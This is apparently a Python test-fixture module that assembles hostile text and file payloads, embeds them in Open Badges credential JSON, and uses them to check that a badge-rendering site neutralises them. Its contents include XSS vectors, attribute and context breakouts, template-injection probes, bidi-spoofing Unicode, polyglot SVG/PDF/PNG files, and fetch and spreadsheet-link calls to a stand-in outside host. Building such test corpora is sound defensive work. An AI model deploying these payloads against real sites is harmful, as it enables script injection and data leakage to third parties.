"""Our own small corpus of hostile text and files: whatever of it comes alive marks the page or asks another site.

Each text tries one way out: of the text between elements, of an attribute, of an address, of a style, of a template; and what only
looks like something else to people.
"""

import json
from typing import Any, Final

MARK: Final = "window.__alive=1"
OUTSIDE: Final = "https://outside.example"
"""A site that no page of ours may ever ask."""

TEXTS: Final = (
    f"<script data-alive>{MARK}</script>",
    f'"><script data-alive src="{OUTSIDE}/x.js"></script>',
    f"'\"><img data-alive src=x onerror={MARK}>",
    f'<img data-alive src="{OUTSIDE}/pixel.png">',
    f"<svg data-alive onload={MARK}>",
    f"<svg data-alive><script>{MARK}</script></svg>",
    f'<svg data-alive><foreignObject><iframe srcdoc="<script>parent.{MARK}</script>"></iframe></foreignObject></svg>',
    f'<svg data-alive><image href="{OUTSIDE}/i.svg"/><use href="{OUTSIDE}/u.svg#x"/></svg>',
    f"<svg data-alive><animate onbegin={MARK} attributeName=x dur=1s></svg>",
    f"<math data-alive><mtext></p><img src=x onerror={MARK}>",
    f"<details data-alive open ontoggle={MARK}>",
    f"<input data-alive autofocus onfocus={MARK}>",
    f"<body data-alive onpageshow={MARK}>",
    f'<iframe data-alive src="javascript:parent.{MARK}"></iframe>',
    f'<object data-alive data="data:text/html,<script>{MARK}</script>"></object>',
    f'<meta data-alive http-equiv="refresh" content="0;url={OUTSIDE}/">',
    f'<base data-alive href="{OUTSIDE}/">',
    f'<link data-alive rel=stylesheet href="{OUTSIDE}/x.css">',
    f"<style data-alive>@import '{OUTSIDE}/x.css';body{{background:url({OUTSIDE}/b.png)}}</style>",
    f'" style="background:url({OUTSIDE}/s.png)" data-alive="',
    f'" autofocus onfocus="{MARK}" data-alive="',
    f"' onmouseover='{MARK}' data-alive='",
    f"` onload={MARK} data-alive `",
    f"javascript:{MARK}",
    f"JaVa\tScRiPt:{MARK}",
    f"data:text/html,<script>opener.{MARK}</script>",
    f'https://x.example/"onclick={MARK}//',
    f"[ссылка](javascript:{MARK}) ![рисунок]({OUTSIDE}/m.png)",
    f"<{OUTSIDE}/auto> **жирно** <b data-alive>жирно</b>",
    f"</textarea><script data-alive>{MARK}</script>",
    f"</title><script data-alive>{MARK}</script>",
    f"--><script data-alive>{MARK}</script><!--",
    f"]]><script data-alive>{MARK}</script>",
    f"</script><script data-alive>{MARK}</script>",
    f"\\u003cscript data-alive\\u003e{MARK}\\u003c/script\\u003e",
    f"&lt;script data-alive&gt;{MARK}&lt;/script&gt;",
    f"＜script data-alive＞{MARK}＜/script＞",
    "{{ 7 * 7 }}{% include 'look/base.html' %}{{ config }}",
    "${7*7} #{7*7} <%= 7*7 %> %(num)s {0.__class__}",
    "\u202eгнп.тамолпид\u202c \u2066скрыто\u2069 \u200b\u200f",
    "Z\u0351\u036b\u0343\u036a\u0302a\u036b\u033d\u034fl\u034f\u0326g\u0351o \U0001f469\u200d\U0001f393 ﷽ " + "ы" * 60,
    '=HYPERLINK("https://outside.example/x","x")',
)

_SVG: Final = (
    f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="{MARK}" width="9" height="9">'
    f'<script>{MARK};fetch("{OUTSIDE}/s")</script><image xlink:href="{OUTSIDE}/i.png" width="9" height="9"/>'
    f'<style>@import url("{OUTSIDE}/s.css");</style><a xlink:href="javascript:{MARK}"><rect width="9" height="9"/></a>'
    f'<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="{MARK}"/></body></foreignObject></svg>'
)
_HTML: Final = f"<!doctype html><title>x</title><script>{MARK}</script><img src={OUTSIDE}/h.png>"
_PDF: Final = (
    f"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>/URI({OUTSIDE})>>endobj\n%%EOF"
)
_PNG: Final = b"\x89PNG\r\n\x1a\n"

FILES: Final = (
    ("рисунок.svg", "image/svg+xml", _SVG.encode()),
    ("рисунок.png", "image/png", _SVG.encode()),
    ("снимок.jpg", "image/jpeg", _HTML.encode()),
    ("страница.html", "text/html", _HTML.encode()),
    ("грамота.pdf", "application/pdf", _PDF.encode()),
    ("два-в-одном.png", "image/png", _PNG + _HTML.encode()),
    ("<img src=x onerror=x>.pdf", "application/pdf", b"%PDF-1.4\n" + _HTML.encode()),
    ("список.csv", "text/csv", "\n".join(text.replace("\n", " ") for text in TEXTS[:20]).encode()),
)
"""What somebody may bring where a file is asked for: name, kind as it is said, bytes."""


def said_by_stranger(number: int) -> dict[str, Any]:
    """A badge in whose every text something hostile stands, beginning with text number `number`; nobody has signed it yet."""

    def text() -> str:
        nonlocal number
        number += 1
        return TEXTS[number % len(TEXTS)]

    achievement = {
        "id": f"{OUTSIDE}/a",
        "type": ["Achievement"],
        "name": text(),
        "description": text(),
        "criteria": {"narrative": text()},
        "image": {"id": f"{OUTSIDE}/a.png", "type": "Image"},
        "tag": [text(), text()],
        "humanCode": text(),
    }
    return {
        "@context": [
            "https://www.w3.org/ns/credentials/v2",
            "https://purl.imsglobal.org/spec/ob/v3p0/context-3.0.3.json",
        ],
        "id": f"urn:uuid:00000000-0000-4000-8000-{number:012d}",
        "type": ["VerifiableCredential", "OpenBadgeCredential"],
        "name": text(),
        "issuer": {"id": f"{OUTSIDE}/i", "type": ["Profile"], "name": text(), "url": f"{OUTSIDE}/"},
        "validFrom": "2026-01-02T03:04:05Z",
        "credentialSubject": {"type": ["AchievementSubject"], "achievement": achievement, "narrative": text()},
        "evidence": [
            {"id": f"{OUTSIDE}/e", "type": ["Evidence"], "name": text(), "narrative": text(), "description": text()}
        ],
    }


def as_text(document: dict[str, Any]) -> str:
    """The document as somebody would paste it."""
    return json.dumps(document, ensure_ascii=False)
